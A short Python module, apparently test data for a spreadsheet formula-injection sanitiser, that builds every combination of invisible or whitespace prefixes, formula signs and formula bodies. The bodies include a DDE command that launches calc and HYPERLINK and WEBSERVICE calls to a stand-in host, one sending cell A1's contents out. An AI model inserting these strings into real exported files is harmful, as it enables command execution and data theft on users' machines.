"""Texts that a spreadsheet would compute, or call a program for, were they written as they are."""

from __future__ import annotations

from itertools import product

CORPS = (
    "1+1",
    'HYPERLINK("http://exemple.test/?"&A1;"voir")',
    "cmd|' /C calc'!A0",
    "SUM(1;1)",
    'WEBSERVICE("http://exemple.test")',
    "A1",
    "2*3",
    'IMPORTXML("x";"y")',
)
SIGNES = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "|", "%")
DEVANT = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\ufeff",
    "\u00a0",
    "\u202f",
    "\u3000",
    "\u200b",
    "\u200f",
    "\u2060",
    "\u00ad",
    "\x00",
    "\x1f",
    '"',
    "'",
    '";',
    "\u2800",
    "\u3164",
    "\v",
    "\f",
    "\u2028",
)
FORMULES = [devant + signe + corps for devant, signe, corps in product(DEVANT, SIGNES, CORPS)]
